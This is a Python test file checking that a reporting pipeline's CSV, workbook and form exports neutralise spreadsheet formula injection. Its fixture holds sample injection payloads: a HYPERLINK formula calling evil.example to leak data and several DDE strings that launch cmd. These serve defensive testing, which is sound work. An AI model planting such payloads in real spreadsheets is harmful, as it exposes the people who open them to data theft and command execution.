"""Safe outputs: report text that a spreadsheet would run never runs.

Text planted into a copy of the session warehouse (as if a report had written it) must
come out of the CSV exports with a leading quote and out of the officers' workbook and
the filled forms as text cells, never formulas."""

from __future__ import annotations

import csv
import re
import shutil
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest
from conftest import ROOT, Built

from cchc.export import csv_safe_text, export_warehouse
from cchc.workbooks import put

PLANTED = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak","bấm vào đây")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        # plain numbers written as text are read as numbers and cannot run
        ("-5", "-5"),
        ("+3,5", "+3,5"),
        ("-1.234,5", "-1.234,5"),
        ("-12%", "-12%"),
        ("-0.5", "-0.5"),
        # text that does not start like a formula is left as it is
        ("Số nhiệm vụ = 5", "Số nhiệm vụ = 5"),
        ("", ""),
    ],
)
def test_csv_safe_text(text: str, expected: str) -> None:
    assert csv_safe_text(text) == expected


@pytest.fixture(scope="module")
def planted(built: Built, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict]:
    """A copy of the session warehouse with formula-like report text in its marts, and
    its exports."""
    tmp = tmp_path_factory.mktemp("planted")
    warehouse = tmp / "cchc.duckdb"
    shutil.copyfile(built.warehouse, warehouse)
    where: dict[str, list] = {}
    with duckdb.connect(str(warehouse)) as con:
        keys = con.execute(
            "select document_id, source_ref from marts.fct_indicator_value "
            "order by document_id, source_ref limit ?",
            [len(PLANTED) + 1],
        ).fetchall()
        for (document_id, source_ref), text in zip(keys, PLANTED.values(), strict=False):
            con.execute(
                "update marts.fct_indicator_value set raw_indicator_text = ? "
                "where document_id = ? and source_ref = ?",
                [text, document_id, source_ref],
            )
        # the officers' workbook shows the current figures (every version is in CSV/Parquet)
        current = con.execute(
            "select document_id, source_ref from marts.fct_indicator_value_current "
            "order by document_id, source_ref limit ?",
            [len(PLANTED)],
        ).fetchall()
        for (document_id, source_ref), text in zip(current, PLANTED.values(), strict=True):
            con.execute(
                "update marts.fct_indicator_value_current set raw_indicator_text = ? "
                "where document_id = ? and source_ref = ?",
                [text, document_id, source_ref],
            )
        number_key = keys[len(PLANTED)]
        con.execute(
            "update marts.fct_indicator_value set raw_value_text = '-5' "
            "where document_id = ? and source_ref = ?",
            list(number_key),
        )
        # the forms: a text figure, an as-written figure and an item name
        con.execute(
            "update marts.rpt_form_agency_figures set value_text = ? where cell_kind = 'text'",
            [PLANTED["hyperlink"]],
        )
        con.execute(
            "update marts.rpt_form_agency_figures set raw_value_text = ? "
            "where cell_kind = 'as_written'",
            [PLANTED["plus"]],
        )
        assert con.execute(
            "select count(*) from marts.rpt_form_agency_figures "
            "where cell_kind in ('text', 'as_written')"
        ).fetchone()[0]
        item = con.execute(
            "select indicator_key from marts.rpt_form_items where not is_section "
            "order by form_order limit 1"
        ).fetchone()[0]
        con.execute(
            "update marts.rpt_form_items set name_vi = ? where indicator_key = ?",
            [PLANTED["at"], item],
        )
        con.execute("checkpoint")
    where["number_key"] = list(number_key)
    summary = export_warehouse(warehouse, tmp / "exports", project_dir=ROOT)
    return tmp / "exports", {"summary": summary, **where}


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fp:
        return list(csv.DictReader(fp))


def test_csv_cells_that_would_run_start_with_a_quote(planted) -> None:
    exports, _ = planted
    rows = _csv_rows(exports / "csv" / "marts.fct_indicator_value.csv")
    texts = {row["raw_indicator_text"] for row in rows}
    for text in PLANTED.values():
        assert "'" + text in texts, text
        assert text not in texts, text
    for row in rows:
        for column, value in row.items():
            if value[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"{column}: {value!r} would run in a spreadsheet")


def test_csv_keeps_a_number_written_as_text(planted) -> None:
    exports, where = planted
    rows = _csv_rows(exports / "csv" / "marts.fct_indicator_value.csv")
    document_id, source_ref = where["number_key"]
    (row,) = [r for r in rows if (r["document_id"], r["source_ref"]) == (document_id, source_ref)]
    assert row["raw_value_text"] == "-5"


def _formulas(path: Path) -> list[str]:
    """The sheets of an .xlsx that hold a formula element (<f>)."""
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        return [n for n in sheets if re.search(rb"<f[ >]", book.read(n))]


def test_officer_workbook_writes_formula_text_as_text(planted) -> None:
    exports, _ = planted
    path = exports / "cchc_marts.xlsx"
    assert _formulas(path) == []
    found = {}
    for sheet in openpyxl.load_workbook(path).worksheets[1:]:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if cell.value in PLANTED.values():
                    found[cell.value] = cell
    assert set(found) == set(PLANTED.values())
    for cell in found.values():
        assert cell.data_type == "s"
        assert cell.quotePrefix  # editing it in Excel keeps it text


def test_filled_forms_write_formula_text_as_text(planted) -> None:
    _, where = planted
    forms = where["summary"].forms
    assert forms
    seen: set[str] = set()
    for path in forms:
        assert _formulas(path) == [], path
        for row in openpyxl.load_workbook(path).active.iter_rows():
            for cell in row:
                if cell.value in PLANTED.values():
                    assert cell.data_type == "s", (path.name, cell.coordinate)
                    seen.add(cell.value)
    assert {PLANTED["hyperlink"], PLANTED["plus"], PLANTED["at"]} <= seen


@pytest.mark.parametrize("text", ["#N/A", "#DIV/0!", "=1+1", "@x", "+1"])
def test_put_writes_every_text_as_text(tmp_path: Path, text: str) -> None:
    from openpyxl import Workbook

    book = Workbook()
    put(book.active, 1, 1, text)
    book.save(tmp_path / "t.xlsx")
    assert _formulas(tmp_path / "t.xlsx") == []
    cell = openpyxl.load_workbook(tmp_path / "t.xlsx").active["A1"]
    assert cell.value == text and cell.data_type == "s"
